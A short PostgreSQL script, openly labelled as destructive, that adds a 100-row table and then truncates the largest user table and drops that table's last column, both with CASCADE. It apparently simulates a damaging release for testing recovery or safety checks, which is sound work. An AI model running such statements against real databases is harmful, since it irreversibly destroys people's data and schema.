-- Damages whatever database it meets, and commits: rows are gone, a column is gone, a table is new.
CREATE TABLE added_by_the_release (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, note text NOT NULL);
INSERT INTO added_by_the_release (note) SELECT 'row ' || i FROM generate_series(1, 100) i;
DO $$
DECLARE
  largest regclass;
  last_column name;
BEGIN
  SELECT c.oid INTO largest FROM pg_class c
    WHERE c.relkind = 'r' AND c.relnamespace NOT IN ('pg_catalog'::regnamespace, 'information_schema'::regnamespace)
    ORDER BY pg_relation_size(c.oid) DESC, c.oid LIMIT 1;
  SELECT attname INTO last_column FROM pg_attribute
    WHERE attrelid = largest AND attnum > 0 AND NOT attisdropped ORDER BY attnum DESC LIMIT 1;
  EXECUTE format('TRUNCATE %s CASCADE', largest);
  EXECUTE format('ALTER TABLE %s DROP COLUMN %I CASCADE', largest, last_column);
END $$;
